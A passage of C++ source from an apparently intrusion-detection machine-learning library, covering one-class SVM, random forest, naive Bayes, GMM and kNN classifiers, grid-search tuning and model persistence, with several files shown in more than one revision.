  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "OneClassSVM"; }
  bool is_supervised() const override { return false; }

  double threshold() const { return threshold_; }

  /// Pre-PR reference: per-row decision() loop over all stored training
  /// rows. Kept for the batched-vs-per-row equivalence tests and bench.
  std::vector<double> score_perrow(const FeatureTable& X) const;

  /// Compact support set for the model compiler (ml/compiled.*);
  /// pointers are null before fit.
  struct SupportView {
    size_t n_sv = 0, dim = 0;
    const double* sv_x = nullptr;      // n_sv x dim
    const double* sv_alpha = nullptr;  // n_sv
    const double* sv_norms = nullptr;  // n_sv
    double gamma = 0.0, rho = 0.0;
  };
  SupportView support_view() const {
    if (n_sv_ == 0) return {};
    return {n_sv_,           support_.cols,    sv_x_.data(),
            sv_alpha_.data(), sv_norms_.data(), gamma_,      rho_};
  }

 private:
  double decision(std::span<const double> x) const;

  Config cfg_;
  double gamma_ = 1.0;
  double rho_ = 0.0;
  double threshold_ = 0.0;
  FeatureTable support_;
  std::vector<double> alpha_;
  // Compact support set (alpha > 1e-10) for the batched decision path:
  // score blocks get their distance matrix to sv_x_ in one sq_dist_batch,
  // then exp + a GEMV against sv_alpha_.
  size_t n_sv_ = 0;
  std::vector<double> sv_x_;      // n_sv x n_features
  std::vector<double> sv_alpha_;  // n_sv
  std::vector<double> sv_norms_;  // ||sv||^2 per row
};

/// Linear one-class SVM over already-embedded features (Nyström + OCSVM):
/// primal SGD on  0.5||w||^2 - rho + (1/nu n) sum max(0, rho - w.x).
class LinearOneClassSvm : public Model {
 public:
  struct Config {
    double nu = 0.05;
    size_t epochs = 40;
    double lr = 0.05;
    double quantile = 0.98;
    uint64_t seed = 31;
  };

  LinearOneClassSvm() : LinearOneClassSvm(Config{}) {}
  explicit LinearOneClassSvm(Config cfg) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "LinearOCSVM"; }
  bool is_supervised() const override { return false; }

  /// Pre-PR reference: per-row dot-product loop.
  std::vector<double> score_perrow(const FeatureTable& X) const;

  double threshold() const { return threshold_; }

  /// Fitted hyperplane for the model compiler (ml/compiled.*).
  struct PlaneView {
    const double* w = nullptr;  // dim (null before fit)
    size_t dim = 0;
    double rho = 0.0;
  };
  PlaneView plane_view() const {
    if (w_.empty()) return {};
    return {w_.data(), w_.size(), rho_};
  }

 private:
  Config cfg_;
  std::vector<double> w_;
  double rho_ = 0.0;
  double threshold_ = 0.0;
};

}  // namespace lumen::ml
