#include "ml/forest.h"

#include "common/parallel.h"

namespace lumen::ml {

void RandomForest::fit(const FeatureTable& X) {
  // Hoist per-tree seed derivation out of the loop so every tree's config
  // seed and bootstrap stream depend only on its index — trees can then fit
  // in parallel with results identical to the serial loop.
  Rng rng(cfg_.seed);
  std::vector<std::pair<uint64_t, uint64_t>> seeds(cfg_.n_trees);
  for (auto& [tree_seed, boot_seed] : seeds) {
    tree_seed = rng.next();
    boot_seed = rng.next();
  }
  trees_.assign(cfg_.n_trees, DecisionTree(TreeConfig{}));
  parallel_for(
      0, cfg_.n_trees,
      [&](size_t t) {
        TreeConfig tc;
        tc.max_depth = cfg_.max_depth;
        tc.min_samples_leaf = cfg_.min_samples_leaf;
        tc.use_sqrt_features = true;
        tc.seed = seeds[t].first;
        DecisionTree tree(tc);
        // Bootstrap sample (with replacement) from a per-tree stream.
        Rng boot(seeds[t].second);
        std::vector<size_t> rows(X.rows);
        for (size_t i = 0; i < X.rows; ++i) {
          rows[i] = static_cast<size_t>(boot.below(X.rows == 0 ? 1 : X.rows));
        }
        tree.fit_rows(X, rows);
        trees_[t] = std::move(tree);
      },
      /*min_parallel=*/2);
}

std::vector<double> RandomForest::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (trees_.empty()) return out;
  const double inv = 1.0 / static_cast<double>(trees_.size());
  parallel_for(
      0, X.rows,
      [&](size_t r) {
        double acc = 0.0;
        for (const DecisionTree& t : trees_) acc += t.predict_row(X.row(r));
        out[r] = acc * inv;
      },
      /*min_parallel=*/64);
  return out;
}

std::vector<int> RandomForest::predict(const FeatureTable& X) const {
  std::vector<double> s = score(X);
  std::vector<int> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) out[r] = s[r] >= 0.5 ? 1 : 0;
  return out;
}

}  // namespace lumen::ml
