#include "ml/forest.h"

namespace lumen::ml {

void RandomForest::fit(const FeatureTable& X) {
  trees_.clear();
  trees_.reserve(cfg_.n_trees);
  Rng rng(cfg_.seed);
  for (size_t t = 0; t < cfg_.n_trees; ++t) {
    TreeConfig tc;
    tc.max_depth = cfg_.max_depth;
    tc.min_samples_leaf = cfg_.min_samples_leaf;
    tc.use_sqrt_features = true;
    tc.seed = rng.next();
    DecisionTree tree(tc);
    // Bootstrap sample (with replacement).
    std::vector<size_t> rows(X.rows);
    for (size_t i = 0; i < X.rows; ++i) {
      rows[i] = static_cast<size_t>(rng.below(X.rows == 0 ? 1 : X.rows));
    }
    tree.fit_rows(X, rows);
    trees_.push_back(std::move(tree));
  }
}

std::vector<double> RandomForest::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (trees_.empty()) return out;
  for (const DecisionTree& t : trees_) {
    for (size_t r = 0; r < X.rows; ++r) out[r] += t.predict_row(X.row(r));
  }
  const double inv = 1.0 / static_cast<double>(trees_.size());
  for (double& v : out) v *= inv;
  return out;
}

std::vector<int> RandomForest::predict(const FeatureTable& X) const {
  std::vector<double> s = score(X);
  std::vector<int> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) out[r] = s[r] >= 0.5 ? 1 : 0;
  return out;
}

}  // namespace lumen::ml
