#include "ml/tuning.h"

#include <cmath>
#include <numeric>

namespace lumen::ml {

std::vector<ParamPoint> ParamGrid::points() const {
  std::vector<ParamPoint> out = {ParamPoint{}};
  for (const auto& [name, values] : axes) {
    std::vector<ParamPoint> next;
    next.reserve(out.size() * values.size());
    for (const ParamPoint& base : out) {
      for (double v : values) {
        ParamPoint p = base;
        p[name] = v;
        next.push_back(std::move(p));
      }
    }
    out = std::move(next);
  }
  return out;
}

std::vector<size_t> kfold_assignment(size_t rows, size_t k, uint64_t seed) {
  std::vector<size_t> order(rows);
  std::iota(order.begin(), order.end(), 0);
  Rng rng(seed);
  rng.shuffle(order);
  std::vector<size_t> fold(rows, 0);
  for (size_t i = 0; i < rows; ++i) fold[order[i]] = i % k;
  return fold;
}

double f1_objective(std::span<const int> y_true, std::span<const int> y_pred) {
  return f1(confusion(y_true, y_pred));
}

TuneResult grid_search(const std::function<ModelPtr(const ParamPoint&)>& make,
                       const FeatureTable& X, const ParamGrid& grid,
                       size_t k_folds, uint64_t seed, const ScoreFn& score) {
  TuneResult result;
  result.best.mean_score = -1.0;
  if (X.rows < k_folds || k_folds < 2) return result;

  const std::vector<size_t> fold = kfold_assignment(X.rows, k_folds, seed);

  for (const ParamPoint& point : grid.points()) {
    Trial trial;
    trial.params = point;
    std::vector<double> fold_scores;
    for (size_t f = 0; f < k_folds; ++f) {
      std::vector<size_t> train_idx, val_idx;
      for (size_t r = 0; r < X.rows; ++r) {
        (fold[r] == f ? val_idx : train_idx).push_back(r);
      }
      if (train_idx.empty() || val_idx.empty()) continue;
      const FeatureTable train = X.select_rows(train_idx);
      const FeatureTable val = X.select_rows(val_idx);
      ModelPtr m = make(point);
      m->fit(train);
      fold_scores.push_back(score(val.labels, m->predict(val)));
    }
    if (fold_scores.empty()) continue;
    double mean = 0.0;
    for (double s : fold_scores) mean += s;
    mean /= static_cast<double>(fold_scores.size());
    double var = 0.0;
    for (double s : fold_scores) var += (s - mean) * (s - mean);
    trial.mean_score = mean;
    trial.std_score =
        std::sqrt(var / static_cast<double>(fold_scores.size()));
    if (trial.mean_score > result.best.mean_score) result.best = trial;
    result.trials.push_back(std::move(trial));
  }
  return result;
}

}  // namespace lumen::ml
