// Gaussian naive Bayes classifier (per-class diagonal Gaussians), as used by
// the BayesianIDS baseline (Moore & Zuev style per-flow discriminators).
#pragma once

#include "ml/model.h"

namespace lumen::ml {

class GaussianNB : public Model {
 public:
  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "GaussianNB"; }
  bool is_supervised() const override { return true; }

  /// Fitted parameters, exposed for persistence.
  struct Params {
    std::vector<double> mean[2];
    std::vector<double> var[2];
    double log_prior[2] = {0.0, 0.0};
    bool has_class[2] = {false, false};
    size_t cols = 0;
  };
  Params params() const {
    Params p;
    for (int c = 0; c < 2; ++c) {
      p.mean[c] = mean_[c];
      p.var[c] = var_[c];
      p.log_prior[c] = log_prior_[c];
      p.has_class[c] = has_class_[c];
    }
    p.cols = cols_;
    return p;
  }
  void restore(const Params& p) {
    for (int c = 0; c < 2; ++c) {
      mean_[c] = p.mean[c];
      var_[c] = p.var[c];
      log_prior_[c] = p.log_prior[c];
      has_class_[c] = p.has_class[c];
    }
    cols_ = p.cols;
  }

 private:
  double log_likelihood(std::span<const double> x, int cls) const;

  std::vector<double> mean_[2];
  std::vector<double> var_[2];
  double log_prior_[2] = {0.0, 0.0};
  bool has_class_[2] = {false, false};
  size_t cols_ = 0;
};

}  // namespace lumen::ml
