// k-means and diagonal-covariance Gaussian mixture models (EM). The GMM is
// used as a density-based anomaly detector (Nyström + GMM baseline): fit on
// benign rows, score = negative log-likelihood.
#pragma once

#include "ml/model.h"

namespace lumen::ml {

/// Plain k-means (Lloyd's algorithm with k-means++-style seeding).
class KMeans {
 public:
  struct Config {
    size_t k = 4;
    size_t iters = 50;
    uint64_t seed = 37;
  };

  KMeans() : KMeans(Config{}) {}
  explicit KMeans(Config cfg) : cfg_(cfg) {}

  void fit(const FeatureTable& X, const std::vector<size_t>& rows);
  size_t assign(std::span<const double> x) const;
  const std::vector<double>& centroids() const { return centroids_; }
  size_t k() const { return k_; }
  size_t dim() const { return dim_; }

 private:
  Config cfg_;
  size_t k_ = 0;
  size_t dim_ = 0;
  std::vector<double> centroids_;  // k x dim
};

/// Diagonal GMM trained by EM on benign rows; anomaly score is the negative
/// log-likelihood, thresholded at a benign quantile.
class Gmm : public Model {
 public:
  struct Config {
    size_t components = 4;
    size_t iters = 40;
    double quantile = 0.98;
    uint64_t seed = 41;
  };

  Gmm() : Gmm(Config{}) {}
  explicit Gmm(Config cfg) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "GMM"; }
  bool is_supervised() const override { return false; }

  /// Mean train-set log-likelihood after fit (EM should not decrease it).
  double final_log_likelihood() const { return final_ll_; }

  /// Pre-PR reference: per-row log_density loop. Kept for the
  /// batched-vs-per-row equivalence tests and the BENCH_ml baseline.
  std::vector<double> score_perrow(const FeatureTable& X) const;

  double threshold() const { return threshold_; }

  /// The folded quadratic scoring form for the model compiler
  /// (ml/compiled.*); pointers are null before fit.
  struct FoldedView {
    size_t k = 0, dim = 0;
    const double* w1 = nullptr;   // k x dim: -0.5 / var
    const double* w2 = nullptr;   // k x dim: mean / var
    const double* cst = nullptr;  // k
  };
  FoldedView folded_view() const {
    if (w1_.size() != k_ * dim_) return {};
    return {k_, dim_, w1_.data(), w2_.data(), const_.data()};
  }

 private:
  double log_density(std::span<const double> x) const;

  /// Fold weight/mean/var into the quadratic scoring form
  ///   logp[c](x) = const_c + sum_d w1[c][d] x_d^2 + w2[c][d] x_d
  /// so a block of rows scores as two GEMMs plus a per-row logsumexp.
  void prepare_scoring();

  /// Score rows of the m x dim_ row-major block x (stride ldx) into out.
  void score_block(const double* x, size_t m, size_t ldx, double* out) const;

  Config cfg_;
  size_t k_ = 0;
  size_t dim_ = 0;
  std::vector<double> weight_;  // k
  std::vector<double> mean_;    // k x dim
  std::vector<double> var_;     // k x dim
  std::vector<double> w1_;      // k x dim: -0.5 / var
  std::vector<double> w2_;      // k x dim: mean / var
  std::vector<double> const_;   // k: log w - 0.5 sum(log(2 pi v) + mean^2/v)
  double threshold_ = 0.0;
  double final_ll_ = 0.0;
};

}  // namespace lumen::ml
