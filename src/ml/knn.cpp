#include "ml/knn.h"

#include <algorithm>
#include <numeric>

#include "common/parallel.h"
#include "ml/dense.h"

namespace lumen::ml {

void Knn::fit(const FeatureTable& X) {
  if (X.rows <= cfg_.max_train_rows) {
    std::vector<size_t> all(X.rows);
    std::iota(all.begin(), all.end(), 0);
    train_ = X.select_rows(all);
  } else {
    // Deterministic subsample without replacement.
    std::vector<size_t> idx(X.rows);
    std::iota(idx.begin(), idx.end(), 0);
    Rng rng(cfg_.seed);
    rng.shuffle(idx);
    idx.resize(cfg_.max_train_rows);
    std::sort(idx.begin(), idx.end());
    train_ = X.select_rows(idx);
  }
  train_norms_.resize(train_.rows);
  dense::row_sq_norms(train_.rows, train_.cols, train_.data.data(),
                      train_.cols, train_norms_.data());
}

std::vector<double> Knn::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (train_.rows == 0) return out;
  const size_t k = std::min(cfg_.k, train_.rows);
  const size_t nblocks =
      (X.rows + dense::kScoreBlock - 1) / dense::kScoreBlock;
  parallel_for(
      0, nblocks,
      [&](size_t blk) {
        const size_t lo = blk * dense::kScoreBlock;
        const size_t hi = std::min(X.rows, lo + dense::kScoreBlock);
        const size_t m = hi - lo;
        thread_local std::vector<double> dmat;
        thread_local std::vector<std::pair<double, int>> dist;
        dmat.resize(m * train_.rows);
        dense::sq_dist_batch(m, train_.rows, X.cols,
                             X.data.data() + lo * X.cols, X.cols,
                             train_.data.data(), train_.cols,
                             /*xn=*/nullptr, train_norms_.data(), dmat.data(),
                             train_.rows);
        dist.resize(train_.rows);
        for (size_t i = 0; i < m; ++i) {
          const double* di = dmat.data() + i * train_.rows;
          for (size_t t = 0; t < train_.rows; ++t) {
            dist[t] = {di[t], train_.labels[t]};
          }
          std::partial_sort(dist.begin(),
                            dist.begin() + static_cast<std::ptrdiff_t>(k),
                            dist.end());
          double pos = 0.0;
          for (size_t j = 0; j < k; ++j) pos += dist[j].second;
          out[lo + i] = pos / static_cast<double>(k);
        }
      },
      /*min_parallel=*/2);
  return out;
}

std::vector<double> Knn::score_perrow(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (train_.rows == 0) return out;
  const size_t k = std::min(cfg_.k, train_.rows);
  parallel_for(
      0, X.rows,
      [&](size_t r) {
        thread_local std::vector<std::pair<double, int>> dist;
        dist.resize(train_.rows);
        const auto x = X.row(r);
        for (size_t t = 0; t < train_.rows; ++t) {
          const auto y = train_.row(t);
          double d = 0.0;
          for (size_t j = 0; j < train_.cols; ++j) {
            const double diff = x[j] - y[j];
            d += diff * diff;
          }
          dist[t] = {d, train_.labels[t]};
        }
        std::partial_sort(dist.begin(),
                          dist.begin() + static_cast<std::ptrdiff_t>(k),
                          dist.end());
        double pos = 0.0;
        for (size_t i = 0; i < k; ++i) pos += dist[i].second;
        out[r] = pos / static_cast<double>(k);
      },
      /*min_parallel=*/16);
  return out;
}

std::vector<int> Knn::predict(const FeatureTable& X) const {
  std::vector<double> s = score(X);
  std::vector<int> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) out[r] = s[r] >= 0.5 ? 1 : 0;
  return out;
}

}  // namespace lumen::ml
