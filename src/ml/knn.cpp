#include "ml/knn.h"

#include <algorithm>
#include <cmath>
#include <limits>
#include <numeric>
#include <utility>

#include "common/parallel.h"
#include "ml/dense.h"

namespace lumen::ml {

void Knn::fit(const FeatureTable& X) {
  if (X.rows <= cfg_.max_train_rows) {
    std::vector<size_t> all(X.rows);
    std::iota(all.begin(), all.end(), 0);
    train_ = X.select_rows(all);
  } else {
    // Deterministic subsample without replacement.
    std::vector<size_t> idx(X.rows);
    std::iota(idx.begin(), idx.end(), 0);
    Rng rng(cfg_.seed);
    rng.shuffle(idx);
    idx.resize(cfg_.max_train_rows);
    std::sort(idx.begin(), idx.end());
    train_ = X.select_rows(idx);
  }
  train_sqnorm_.resize(train_.rows);
  dense::row_sq_norms(train_.rows, train_.cols, train_.data.data(),
                      train_.cols, train_sqnorm_.data());
}

void knn_score_rows_batched(const double* x, size_t m, size_t ldx,
                            const double* train, size_t n_train, size_t cols,
                            const int* labels, const double* train_sqnorm,
                            size_t k, double* out, std::vector<double>& dist,
                            std::vector<std::pair<double, int>>& heap) {
  // Sub-block the queries so the distance matrix stays kScoreBlock x
  // n_train regardless of m — callers already chunk at kScoreBlock, but the
  // compiled plan may see larger micro-batches.
  for (size_t lo = 0; lo < m; lo += dense::kScoreBlock) {
    const size_t mb = std::min(dense::kScoreBlock, m - lo);
    dist.resize(mb * n_train);
    dense::sq_dist_batch(mb, n_train, cols, x + lo * ldx, ldx, train, cols,
                         /*xn=*/nullptr, train_sqnorm, dist.data(), n_train);
    for (size_t i = 0; i < mb; ++i) {
      const double* di = dist.data() + i * n_train;
      // Max-heap of the k best (distance, label) pairs — the same pair
      // ordering score_perrow's partial_sort uses, label tie-breaks
      // included, so the selected multiset matches the reference scan.
      heap.clear();
      for (size_t t = 0; t < n_train; ++t) {
        const std::pair<double, int> p{di[t], labels[t]};
        if (heap.size() < k) {
          heap.push_back(p);
          std::push_heap(heap.begin(), heap.end());
        } else if (p < heap.front()) {
          std::pop_heap(heap.begin(), heap.end());
          heap.back() = p;
          std::push_heap(heap.begin(), heap.end());
        }
      }
      double pos = 0.0;
      for (const auto& p : heap) pos += p.second;
      out[lo + i] = pos / static_cast<double>(k);
    }
  }
}

std::vector<double> Knn::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (train_.rows == 0) return out;
  const size_t k = std::min(cfg_.k, train_.rows);
  const size_t nblocks =
      (X.rows + dense::kScoreBlock - 1) / dense::kScoreBlock;
  parallel_for(
      0, nblocks,
      [&](size_t blk) {
        const size_t lo = blk * dense::kScoreBlock;
        const size_t hi = std::min(X.rows, lo + dense::kScoreBlock);
        thread_local std::vector<double> dist;
        thread_local std::vector<std::pair<double, int>> heap;
        knn_score_rows_batched(X.data.data() + lo * X.cols, hi - lo, X.cols,
                               train_.data.data(), train_.rows, train_.cols,
                               train_.labels.data(), train_sqnorm_.data(), k,
                               out.data() + lo, dist, heap);
      },
      /*min_parallel=*/2);
  return out;
}

std::vector<double> Knn::score_perrow(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (train_.rows == 0) return out;
  const size_t k = std::min(cfg_.k, train_.rows);
  parallel_for(
      0, X.rows,
      [&](size_t r) {
        thread_local std::vector<std::pair<double, int>> dist;
        dist.resize(train_.rows);
        const auto x = X.row(r);
        for (size_t t = 0; t < train_.rows; ++t) {
          const auto y = train_.row(t);
          double d = 0.0;
          for (size_t j = 0; j < train_.cols; ++j) {
            const double diff = x[j] - y[j];
            d += diff * diff;
          }
          dist[t] = {d, train_.labels[t]};
        }
        std::partial_sort(dist.begin(),
                          dist.begin() + static_cast<std::ptrdiff_t>(k),
                          dist.end());
        double pos = 0.0;
        for (size_t i = 0; i < k; ++i) pos += dist[i].second;
        out[r] = pos / static_cast<double>(k);
      },
      /*min_parallel=*/16);
  return out;
}

std::vector<int> Knn::predict(const FeatureTable& X) const {
  std::vector<double> s = score(X);
  std::vector<int> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) out[r] = s[r] >= 0.5 ? 1 : 0;
  return out;
}

}  // namespace lumen::ml
