#include "ml/knn.h"

#include <algorithm>
#include <numeric>

#include "common/parallel.h"

namespace lumen::ml {

void Knn::fit(const FeatureTable& X) {
  if (X.rows <= cfg_.max_train_rows) {
    std::vector<size_t> all(X.rows);
    std::iota(all.begin(), all.end(), 0);
    train_ = X.select_rows(all);
    return;
  }
  // Deterministic subsample without replacement.
  std::vector<size_t> idx(X.rows);
  std::iota(idx.begin(), idx.end(), 0);
  Rng rng(cfg_.seed);
  rng.shuffle(idx);
  idx.resize(cfg_.max_train_rows);
  std::sort(idx.begin(), idx.end());
  train_ = X.select_rows(idx);
}

std::vector<double> Knn::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (train_.rows == 0) return out;
  const size_t k = std::min(cfg_.k, train_.rows);
  // Each query row's distance scan is independent; the per-thread scratch
  // buffer avoids reallocating the distance array per row.
  parallel_for(
      0, X.rows,
      [&](size_t r) {
        thread_local std::vector<std::pair<double, int>> dist;
        dist.resize(train_.rows);
        const auto x = X.row(r);
        for (size_t t = 0; t < train_.rows; ++t) {
          const auto y = train_.row(t);
          double d = 0.0;
          for (size_t j = 0; j < train_.cols; ++j) {
            const double diff = x[j] - y[j];
            d += diff * diff;
          }
          dist[t] = {d, train_.labels[t]};
        }
        std::partial_sort(dist.begin(),
                          dist.begin() + static_cast<std::ptrdiff_t>(k),
                          dist.end());
        double pos = 0.0;
        for (size_t i = 0; i < k; ++i) pos += dist[i].second;
        out[r] = pos / static_cast<double>(k);
      },
      /*min_parallel=*/16);
  return out;
}

std::vector<int> Knn::predict(const FeatureTable& X) const {
  std::vector<double> s = score(X);
  std::vector<int> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) out[r] = s[r] >= 0.5 ? 1 : 0;
  return out;
}

}  // namespace lumen::ml
