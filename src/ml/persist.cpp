#include "ml/persist.h"

#include <fstream>
#include <istream>
#include <ostream>
#include <sstream>

namespace lumen::ml {

namespace {

constexpr int kVersion = 1;

void write_vector(std::ostream& out, const std::vector<double>& v) {
  out << v.size();
  out.precision(17);
  for (double x : v) out << ' ' << x;
  out << '\n';
}

Result<std::vector<double>> read_vector(std::istream& in) {
  size_t n = 0;
  if (!(in >> n)) return Error::make("persist", "expected vector length");
  if (n > (1u << 26)) return Error::make("persist", "implausible vector size");
  std::vector<double> v(n);
  for (double& x : v) {
    if (!(in >> x)) return Error::make("persist", "truncated vector");
  }
  return v;
}

Result<void> write_header(std::ostream& out, const std::string& type) {
  out << "lumen-model " << type << ' ' << kVersion << '\n';
  if (!out) return Error::make("persist", "write failure");
  return {};
}

Result<void> expect_header(std::istream& in, const std::string& type) {
  Result<std::string> got = read_model_header(in);
  if (!got.ok()) return got.error();
  if (got.value() != type) {
    return Error::make("persist", "expected a '" + type + "' model, found '" +
                                      got.value() + "'");
  }
  return {};
}

Result<void> save_tree_body(const DecisionTree& m, std::ostream& out) {
  const auto& nodes = m.nodes();
  out << nodes.size() << ' ' << m.depth() << '\n';
  out.precision(17);
  for (const auto& n : nodes) {
    out << n.feature << ' ' << n.threshold << ' ' << n.left << ' ' << n.right
        << ' ' << n.p_malicious << '\n';
  }
  if (!out) return Error::make("persist", "write failure");
  return {};
}

Result<DecisionTree> load_tree_body(std::istream& in) {
  size_t n = 0;
  int depth = 0;
  if (!(in >> n >> depth)) return Error::make("persist", "bad tree header");
  if (n > (1u << 24)) return Error::make("persist", "implausible node count");
  std::vector<DecisionTree::Node> nodes(n);
  for (auto& node : nodes) {
    if (!(in >> node.feature >> node.threshold >> node.left >> node.right >>
          node.p_malicious)) {
      return Error::make("persist", "truncated tree nodes");
    }
  }
  DecisionTree tree;
  tree.restore(std::move(nodes), depth);
  return tree;
}

}  // namespace

Result<std::string> read_model_header(std::istream& in) {
  std::string magic, type;
  int version = 0;
  if (!(in >> magic >> type >> version) || magic != "lumen-model") {
    return Error::make("persist", "not a lumen model stream");
  }
  if (version != kVersion) {
    return Error::make("persist",
                       "unsupported version " + std::to_string(version));
  }
  return type;
}

Result<void> save_model(const DecisionTree& m, std::ostream& out) {
  if (auto h = write_header(out, "tree"); !h.ok()) return h;
  return save_tree_body(m, out);
}

Result<DecisionTree> load_tree(std::istream& in) {
  if (auto h = expect_header(in, "tree"); !h.ok()) return h.error();
  return load_tree_body(in);
}

Result<void> save_model(const RandomForest& m, std::ostream& out) {
  if (auto h = write_header(out, "forest"); !h.ok()) return h;
  out << m.trees().size() << '\n';
  for (const DecisionTree& t : m.trees()) {
    if (auto r = save_tree_body(t, out); !r.ok()) return r;
  }
  return {};
}

Result<RandomForest> load_forest(std::istream& in) {
  if (auto h = expect_header(in, "forest"); !h.ok()) return h.error();
  size_t n = 0;
  if (!(in >> n)) return Error::make("persist", "bad forest header");
  if (n > (1u << 16)) return Error::make("persist", "implausible tree count");
  std::vector<DecisionTree> trees;
  trees.reserve(n);
  for (size_t i = 0; i < n; ++i) {
    Result<DecisionTree> t = load_tree_body(in);
    if (!t.ok()) return t.error();
    trees.push_back(std::move(t).value());
  }
  RandomForest forest;
  forest.restore(std::move(trees));
  return forest;
}

Result<void> save_model(const GaussianNB& m, std::ostream& out) {
  if (auto h = write_header(out, "nb"); !h.ok()) return h;
  const GaussianNB::Params p = m.params();
  out.precision(17);
  out << p.cols << ' ' << p.has_class[0] << ' ' << p.has_class[1] << ' '
      << p.log_prior[0] << ' ' << p.log_prior[1] << '\n';
  for (int c = 0; c < 2; ++c) {
    write_vector(out, p.mean[c]);
    write_vector(out, p.var[c]);
  }
  if (!out) return Error::make("persist", "write failure");
  return {};
}

Result<GaussianNB> load_nb(std::istream& in) {
  if (auto h = expect_header(in, "nb"); !h.ok()) return h.error();
  GaussianNB::Params p;
  if (!(in >> p.cols >> p.has_class[0] >> p.has_class[1] >> p.log_prior[0] >>
        p.log_prior[1])) {
    return Error::make("persist", "bad nb header");
  }
  for (int c = 0; c < 2; ++c) {
    Result<std::vector<double>> mean = read_vector(in);
    if (!mean.ok()) return mean.error();
    Result<std::vector<double>> var = read_vector(in);
    if (!var.ok()) return var.error();
    p.mean[c] = std::move(mean).value();
    p.var[c] = std::move(var).value();
  }
  GaussianNB nb;
  nb.restore(p);
  return nb;
}

Result<void> save_normalizer(const features::Normalizer& n,
                             std::ostream& out) {
  if (auto h = write_header(out, "normalizer"); !h.ok()) return h;
  out << (n.kind() == features::NormKind::kZScore ? "zscore" : "minmax")
      << '\n';
  write_vector(out, n.shift());
  write_vector(out, n.scale());
  if (!out) return Error::make("persist", "write failure");
  return {};
}

Result<features::Normalizer> load_normalizer(std::istream& in) {
  if (auto h = expect_header(in, "normalizer"); !h.ok()) return h.error();
  std::string kind;
  if (!(in >> kind)) return Error::make("persist", "bad normalizer kind");
  Result<std::vector<double>> shift = read_vector(in);
  if (!shift.ok()) return shift.error();
  Result<std::vector<double>> scale = read_vector(in);
  if (!scale.ok()) return scale.error();
  features::Normalizer n;
  n.restore(kind == "zscore" ? features::NormKind::kZScore
                             : features::NormKind::kMinMax,
            std::move(shift).value(), std::move(scale).value());
  return n;
}

Result<void> save_model_file(const RandomForest& m, const std::string& path) {
  std::ofstream out(path);
  if (!out) return Error::make("persist", "cannot open " + path);
  return save_model(m, out);
}

Result<RandomForest> load_forest_file(const std::string& path) {
  std::ifstream in(path);
  if (!in) return Error::make("persist", "cannot open " + path);
  return load_forest(in);
}

}  // namespace lumen::ml
