// k-nearest-neighbour classifier (brute force, Euclidean, with an optional
// cap on stored training rows for tractability on large tables).
//
// Scoring runs block-at-a-time over dense::kScoreBlock query blocks: each
// block's distance matrix comes from dense::sq_dist_batch (one GEMM plus
// precomputed row norms — the ||x||^2 + ||y||^2 - 2 x.y expansion), and the
// k best (squared distance, label) pairs per query are then selected with
// the same pair ordering score_perrow's partial_sort uses. The score is the
// mean selected label — a discrete value that only depends on which
// neighbours are selected — so the batched path reproduces the reference
// scan exactly wherever candidate distances aren't closer than GEMM-
// expansion rounding, which the dense_test equivalence case pins on every
// runnable backend.
#pragma once

#include <utility>
#include <vector>

#include "ml/model.h"

namespace lumen::ml {

struct KnnConfig {
  size_t k = 5;
  size_t max_train_rows = 4000;  // reservoir-capped training set
  uint64_t seed = 13;
};

class Knn : public Model {
 public:
  explicit Knn(KnnConfig cfg = {}) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "kNN"; }
  bool is_supervised() const override { return true; }

  /// Pre-PR reference: per-row scalar distance scan. Kept for the
  /// batched-vs-per-row equivalence tests and the BENCH_ml baseline.
  std::vector<double> score_perrow(const FeatureTable& X) const;

  /// Retained training set for the model compiler (ml/compiled.*).
  /// `sqnorm` shares the exact per-row squared norms fit() computed, so a
  /// compiled plan scores through bit-identical inputs to Knn::score.
  struct TrainView {
    const FeatureTable* train = nullptr;  // null before fit
    const std::vector<double>* sqnorm = nullptr;
    size_t k = 0;
  };
  TrainView train_view() const {
    return {train_.rows ? &train_ : nullptr,
            train_.rows ? &train_sqnorm_ : nullptr, cfg_.k};
  }

 private:
  KnnConfig cfg_;
  FeatureTable train_;
  std::vector<double> train_sqnorm_;  // ||t||^2 per row (sq_dist_batch's yn)
};

/// The batched k-nearest scan shared by Knn::score and the compiled kNN
/// plan: for each of the m query rows (stride ldx), select the k smallest
/// (squared distance, label) pairs over the training matrix and write the
/// mean selected label to out[i]. Distances for each dense::kScoreBlock
/// sub-block come from dense::sq_dist_batch — `train_sqnorm` (may be null)
/// passes the precomputed ||t||^2 vector straight through as its yn — and
/// selection uses the same pair comparison as score_perrow, so the chosen
/// neighbour multiset (hence the score) matches the reference scan's.
/// `dist` and `heap` are caller-owned scratch (the block distance matrix
/// and the current k best).
void knn_score_rows_batched(const double* x, size_t m, size_t ldx,
                            const double* train, size_t n_train, size_t cols,
                            const int* labels, const double* train_sqnorm,
                            size_t k, double* out, std::vector<double>& dist,
                            std::vector<std::pair<double, int>>& heap);

}  // namespace lumen::ml
