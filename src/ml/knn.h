// k-nearest-neighbour classifier (brute force, Euclidean, with an optional
// cap on stored training rows for tractability on large tables).
//
// Scoring runs block-at-a-time: each dense::kScoreBlock query block gets its
